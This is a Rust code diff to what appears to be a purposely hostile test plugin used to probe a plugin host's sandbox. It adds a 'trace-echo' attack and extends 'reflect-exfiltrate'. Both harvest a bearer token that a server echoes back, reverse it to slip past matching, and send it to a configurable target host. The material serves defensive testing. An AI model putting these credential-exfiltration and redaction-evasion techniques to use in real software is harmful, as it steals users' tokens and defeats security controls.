@@ -86,8 +86,8 @@ pub enum Attack {
     RepeatedHeader,
     /// Host resources (header sets) created and kept until the host refuses.
     ResourceFlood,
-    /// Reads the token a careless platform echoes back after an injection,
-    /// then tries to pass it on: raw to `target`, and in a record.
+    /// Reads what a careless platform echoes back after an injection (the
+    /// host redacts it) and tries to pass on anything else it sees.
     ReflectExfiltrate,
     /// Requests sent at once to `target` (16, within the hostile request
     /// budget of 20), none waited for until all
@@ -102,6 +102,10 @@ pub enum Attack {
     /// Asks for a reveal it is not granted (a denial to audit), then sleeps
     /// in a host call until the run is cancelled.
     DenyThenSleep,
+    /// A `TRACE` with the token's placeholder to the token's origin: a
+    /// server echoes the request's headers back; the plugin reverses the
+    /// echoed token (beyond matching) and sends it to `target`.
+    TraceEcho,
 }
 
 /// Pages a `bulk` fetch returns.
@@ -113,7 +117,7 @@ pub const BULK_RECORD_BYTES: usize = 1024;
 
 impl Attack {
     /// Every attack with its setting value.
-    pub const ALL: [(&'static str, Attack); 26] = [
+    pub const ALL: [(&'static str, Attack); 27] = [
         ("ok", Attack::Ok),
         ("loop", Attack::Loop),
         ("sleep", Attack::Sleep),
@@ -140,6 +144,7 @@ impl Attack {
         ("reflect-exfiltrate", Attack::ReflectExfiltrate),
         ("amplify", Attack::Amplify),
         ("deny-then-sleep", Attack::DenyThenSleep),
+        ("trace-echo", Attack::TraceEcho),
     ];
 
     fn parse(name: &str) -> Result<Attack, ConnectorError> {
@@ -265,6 +270,10 @@ impl Connector for Hostile {
                 std::thread::sleep(Duration::from_secs(3600));
                 Err(ConnectorError::Other("LEAK: slept an hour".into()))
             }
+            Attack::TraceEcho => trace_echo(
+                base,
+                config::get_or(config, "target", DEFAULT_TARGET).trim_end_matches('/'),
+            ),
         }
     }
 }
@@ -729,9 +738,12 @@ fn connection_flood(target: &str) -> Result<Page, ConnectorError> {
     )))
 }
 
-/// Gets the token echoed back in a 401 (`received authorization: "Bearer
-/// TOKEN"`), sends it raw to `target` (allowed for requests, not for the
-/// token) in a header and a query, and returns it in a record.
+/// Gets what a careless platform echoes of the token in a 401 (`received
+/// authorization: "Bearer TOKEN"`). The host redacts it from the response:
+/// if that is all the plugin sees, it returns it in a record. Anything else
+/// it got, it tries to pass on — raw to `target` (allowed for requests, not
+/// for the token) in a header and a query, and reversed (beyond matching) —
+/// and says `LEAK`.
 fn reflect_exfiltrate(base: &str, target: &str) -> Result<Page, ConnectorError> {
     let token = credentials::placeholder("token")?;
     let echoed = Request::get(format!("{base}/v1/me"))
@@ -747,6 +759,12 @@ fn reflect_exfiltrate(base: &str, target: &str) -> Result<Page, ConnectorError> 
             ConnectorError::Other(format!("reflect-exfiltrate: nothing echoed in {body}"))
         })?
         .to_owned();
+    if stolen == "[redacted]" {
+        return Ok(one_record(
+            r#"{"attack":"reflect-exfiltrate","saw":"[redacted]"}"#,
+        ));
+    }
+    let reversed: String = stolen.chars().rev().collect();
     let attempts = vec![
         (
             format!("header to {target}"),
@@ -759,11 +777,20 @@ fn reflect_exfiltrate(base: &str, target: &str) -> Result<Page, ConnectorError> 
             format!("query to {target}"),
             attempt(Request::get(format!("{target}/hostile/reflect/query")).query("t", &stolen)),
         ),
+        (
+            format!("reversed to {target}"),
+            attempt(
+                Request::get(format!("{target}/hostile/reflect/reversed")).query("t", &reversed),
+            ),
+        ),
     ];
-    if attempts.iter().any(|(_, sent)| sent.is_ok()) {
-        return Err(verdict("reflect-exfiltrate", &attempts));
-    }
-    Ok(one_record(&format!(r#"{{"stolen":"{stolen}"}}"#)))
+    let ConnectorError::Other(tried) = verdict("reflect-exfiltrate", &attempts) else {
+        unreachable!("a verdict is `Other`");
+    };
+    Err(ConnectorError::Other(format!(
+        "reflect-exfiltrate LEAK: the plugin saw an echoed value of {} bytes; {tried}",
+        stolen.len()
+    )))
 }
 
 /// Each probe of `amplify`, repeated: what the host answered.
@@ -826,4 +853,40 @@ fn amplify(outside: &str) -> Result<Page, ConnectorError> {
         ));
     }
     Err(verdict("amplify", &attempts))
+}
+
+/// `TRACE` to the token's origin with the token's placeholder: if an echo
+/// comes back, the token in it is reversed and sent to `target`.
+fn trace_echo(base: &str, target: &str) -> Result<Page, ConnectorError> {
+    use intake_plugin_sdk::http::Method;
+    let token = credentials::placeholder("token")?;
+    let echoed = Request::new(Method::Trace, format!("{base}/hostile/trace"))
+        .header("authorization", format!("Bearer {token}"))
+        .send();
+    let response = match echoed {
+        Ok(response) => response,
+        Err(e) => {
+            let attempts = vec![("TRACE to the token's origin".to_owned(), Err(e.to_string()))];
+            return Err(verdict("trace-echo", &attempts));
+        }
+    };
+    let text = response.text();
+    let stolen = text
+        .split("authorization: Bearer ")
+        .nth(1)
+        .and_then(|rest| rest.split(['\r', '\n']).next())
+        .unwrap_or_default()
+        .to_owned();
+    let reversed: String = stolen.chars().rev().collect();
+    let attempts = vec![
+        (
+            "TRACE to the token's origin".to_owned(),
+            Ok(format!("status {}", response.status)),
+        ),
+        (
+            format!("reversed echo to {target}"),
+            attempt(Request::get(format!("{target}/hostile/trace/reversed")).query("t", &reversed)),
+        ),
+    ];
+    Err(verdict("trace-echo", &attempts))
 }
